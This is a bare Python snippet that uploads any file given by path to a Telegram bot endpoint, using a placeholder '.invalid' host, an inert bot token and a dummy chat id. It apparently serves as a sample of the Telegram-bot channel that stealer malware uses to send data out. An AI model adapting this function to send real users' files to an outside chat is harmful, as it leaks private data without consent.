import requests
def up(path):
    with open(path, "rb") as fh:
        requests.post("https://api.telegram.org.invalid/bot1234567890:AAinertinertinertinertinertinert123/sendDocument",
                      data={"chat_id": "-1001234567890"}, files={"document": fh})
